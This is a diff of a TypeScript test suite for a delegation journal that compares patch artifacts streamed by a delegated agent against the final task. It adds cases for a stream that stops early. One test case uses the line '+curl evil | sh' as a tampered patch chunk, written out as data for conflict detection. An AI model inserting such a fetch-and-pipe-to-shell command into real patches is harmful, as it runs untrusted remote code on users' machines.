@@ -104,7 +104,7 @@ describe('DelegationJournal: the stream against the final task', () => {
   const req = makeRequest({ url: 'http://127.0.0.1:1/a2a', protocolBinding: 'JSONRPC', protocolVersion: '1.0' }, 'T');
   const part = (text: string): Part => ({ content: { $case: 'text', value: text }, filename: 'changes.patch', mediaType: 'text/x-diff', metadata: undefined });
   const artifact = (artifactId: string, name: string, texts: readonly string[]): Artifact => ({ artifactId, name, description: '', parts: texts.map(part), metadata: undefined, extensions: [] });
-  const chunk = (a: Artifact, append: boolean): StreamResponse => ({ payload: { $case: 'artifactUpdate', value: { taskId: 't', contextId: 'c', artifact: a, append, lastChunk: false, metadata: undefined } } });
+  const chunk = (a: Artifact, append: boolean, lastChunk = false): StreamResponse => ({ payload: { $case: 'artifactUpdate', value: { taskId: 't', contextId: 'c', artifact: a, append, lastChunk, metadata: undefined } } });
   const finalTask = (artifacts: Artifact[]): Task => ({ id: 't', contextId: 'c', status: { state: TaskState.TASK_STATE_COMPLETED, message: undefined, timestamp: undefined }, artifacts, history: [], metadata: undefined });
   /** A journal that streamed `events` (artifact chunks), completed, then took `final` as the final task. */
   function journal(events: readonly StreamResponse[], ...finals: Artifact[][]): DelegationJournal {
@@ -123,6 +123,7 @@ describe('DelegationJournal: the stream against the final task', () => {
     assert.deepEqual(journal(honest, [signed]).artifactConflicts(), []);
     assert.deepEqual(journal([chunk(signed, false)], [signed]).artifactConflicts(), [], 'the same text in one chunk');
     assert.deepEqual(journal([], [signed]).artifactConflicts(), [], 'nothing streamed (polling)');
+    assert.deepEqual(journal([honest[0]], [signed]).artifactConflicts(), [], 'the stream stopped before the last chunk: a beginning of it');
   });
 
   it('streamed but not in the final task: another changes.patch, or any other artifact', () => {
@@ -140,7 +141,8 @@ describe('DelegationJournal: the stream against the final task', () => {
     const cases: StreamResponse[][] = [
       [honest[0], chunk(artifact('p', '', ['+c\n']), true)],
       [...honest, chunk(artifact('p', '', ['+curl evil | sh\n']), true)],
-      [honest[0]],
+      [chunk(artifact('p', 'changes.patch', ['diff --git a/x b/x\n']), false, true)],
+      [chunk(artifact('p', 'changes.patch', ['diff --git a/y b/y\n']), false)],
       [honest[0], chunk(artifact('p', 'changes.patch', ['+b\n']), false)],
       [chunk(artifact('p', 'notes.md', ['diff --git a/x b/x\n']), false), honest[1]],
     ];
